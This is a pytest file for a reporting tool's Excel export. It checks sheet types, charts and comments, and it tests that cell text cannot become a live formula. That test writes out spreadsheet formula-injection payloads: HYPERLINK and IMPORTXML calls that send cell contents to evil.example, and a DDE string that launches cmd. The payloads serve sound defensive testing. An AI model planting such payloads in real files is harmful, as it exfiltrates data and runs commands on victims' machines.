"""The workbook: types, heads, notes, charts, and texts that stay texts."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pytest

from reports.forms.workbook import workbook_bytes
from reports.page import Page

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "   =", "＝", "＋", "－", "＠", "'=")
BODIES = (
    "1+1",
    'HYPERLINK("https://evil.example/?"&A1,"more")',
    "cmd|' /C calc'!A0",
    'IMPORTXML("https://evil.example","//a")',
    "SUM(A1:A9)*2",
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]
SHEETS = [
    "Read me", "Verdict", "Journey", "Journey, 4 weeks", "Touchpoints", "Pain points", "Delights",
    "Changes", "Changes, 4 weeks", "Alerts",
    "Weeks told anew", "Themes born and ended", "Drivers", "Themes by week", "Quotes", "Data quality",
    "Languages", "Near-copies", "Held back", "Metrics", "Method", "SQL",
]  # fmt: skip
EPOCH = date(1899, 12, 30).toordinal()


def with_rows(page: Page, **rows: list[dict[str, Any]]) -> Page:
    """The page with other rows under some of its answers."""
    changed = {name: replace(page.answers[name], rows=found) for name, found in rows.items()}
    return replace(page, answers=page.answers | changed)


@pytest.fixture(scope="module")
def book(page: Page) -> bytes:
    return workbook_bytes(page, "mark")


def test_every_table_of_the_report_has_a_sheet(book: bytes, workbook_rows: Callable[..., Any]) -> None:
    sheets = workbook_rows(book)
    assert list(sheets) == SHEETS
    assert all(rows for rows in sheets.values())


def test_numbers_are_numbers_and_dates_are_dates(
    book: bytes, published: Path, workbook_rows: Callable[..., Any]
) -> None:
    sheets = workbook_rows(book)
    with duckdb.connect(str(published), read_only=True) as connection:
        points = connection.execute(
            "select n_customers, reach, severity, 100 * impact, trend, priority from mart_pain_point "
            "order by priority_rank, pain_point_id"
        ).fetchall()
        weeks = connection.execute("select distinct week_start from mart_theme_weekly order by 1").fetchall()
    heads = ("Customers with it (n)", "Reach (%)", "Severity (0 to 2)", "Impact (points of 100)")
    heads += ("Trend (times, 4 weeks on 8)", "Priority")
    assert [tuple(row[head] for head in heads) for row in sheets["Pain points"]] == [
        pytest.approx(point) for point in points
    ]
    found = {date.fromordinal(EPOCH + int(row["Week of"])) for row in sheets["Themes by week"]}
    assert found <= {week for (week,) in weeks}
    assert len(found) == 25


def test_heads_are_frozen_filtered_and_explained(book: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        sheets = [parts.read(name).decode() for name in parts.namelist() if "worksheets/sheet" in name]
    assert len(sheets) >= len(SHEETS)
    for sheet in sheets:
        assert '<pane ySplit="1"' in sheet
        assert "<autoFilter" in sheet
    assert sum("<dataBar" in sheet for sheet in sheets) == 5


def test_the_notes_are_those_of_the_dictionary(page: Page) -> None:
    told = {"table_name": "mart_pain_point", "column_name": "severity", "meaning": "=How bad it is"}
    noted = with_rows(page, columns=[told])
    with zipfile.ZipFile(io.BytesIO(workbook_bytes(noted, "mark"))) as parts:
        notes = [parts.read(name).decode() for name in parts.namelist() if "xl/comments" in name]
    assert len(notes) == 1
    assert re.findall(r'ref="(\w+)".*?<t>(.*?)</t>', notes[0]) == [("N1", "=How bad it is")]


def test_the_curve_and_the_pain_points_are_native_charts(book: bytes, published: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        curve, pains = (parts.read(f"xl/charts/chart{number}.xml").decode() for number in (1, 2))
    with duckdb.connect(str(published), read_only=True) as connection:
        ends = connection.execute(
            "select ci_high - mean_valence from mart_journey_curve "
            "where period_kind = 'all' and source_id = 'all' order by stage_order"
        ).fetchall()
    plus = re.findall(r"<c:v>(.*?)</c:v>", curve.partition("<c:plus>")[2].partition("</c:plus>")[0])
    assert [float(length) for length in plus] == pytest.approx([end or 0 for (end,) in ends])
    assert "<c:lineChart>" in curve
    assert "<c:barChart>" in pains
    assert "Journey!$E$2:$E$9" in curve


def test_texts_meant_as_formulas_stay_texts(page: Page, workbook_rows: Callable[..., Any]) -> None:
    quote, points = page.answers["pain_quotes"].rows[0], page.answers["pain_points"].rows
    hit = with_rows(
        page,
        pain_quotes=[quote | {"text": payload} for payload in PAYLOADS],
        pain_points=[
            row | {"theme_name": payload, "family": payload}
            for row, payload in zip(points, PAYLOADS, strict=False)
        ],
        quarantine=[{"reason": payload, "source_name": payload, "n_records": 1} for payload in PAYLOADS],
    )
    book = workbook_bytes(hit, "mark")
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        xml = {
            name: parts.read(name).decode() for name in parts.namelist() if name.endswith((".xml", ".rels"))
        }
    sheets = [text for name, text in xml.items() if "worksheets/sheet" in name]
    assert len(PAYLOADS) == 60
    assert sum(len(re.findall(r"<f[ >]", sheet)) for sheet in sheets) == 0
    assert sum(text.count("<hyperlink") for text in sheets) == 0
    assert not [name for name, text in xml.items() if "TargetMode" in text]
    written = {row["What a customer wrote (redacted)"] for row in workbook_rows(book)["Quotes"]}
    assert {payload.replace("\r", "\n") for payload in PAYLOADS} <= {
        str(text).replace("_x000D_", "\n").replace("\r", "\n") for text in written
    }


@pytest.mark.parametrize(
    "world",
    [
        {"scale": 0.01},
        pytest.param({"n_weeks": 1, "n_stages": 1, "gap": ()}, marks=pytest.mark.slow),
        pytest.param({"dated": False}, marks=pytest.mark.slow),
    ],
)
def test_thin_data_give_a_workbook_that_says_so(
    publish: Callable[..., Path],
    page_of: Callable[[Path], Page],
    workbook_rows: Callable[..., Any],
    world: dict[str, Any],
) -> None:
    sheets = workbook_rows(workbook_bytes(page_of(publish(**world)), "mark"))
    assert list(sheets) == SHEETS
    withheld = [row for row in sheets["Journey"] if row["Too few customers: withheld"] == "yes"]
    assert all(row["Mean valence (−2 to +2)"] is None for row in withheld)
    said = [name for name, rows in sheets.items() if "nothing to show" in rows[0].values()]
    assert ("Pain points" in said) == (world == {"scale": 0.01})


def test_the_same_page_gives_the_same_bytes(book: bytes, page: Page) -> None:
    assert workbook_bytes(page, "mark") == book
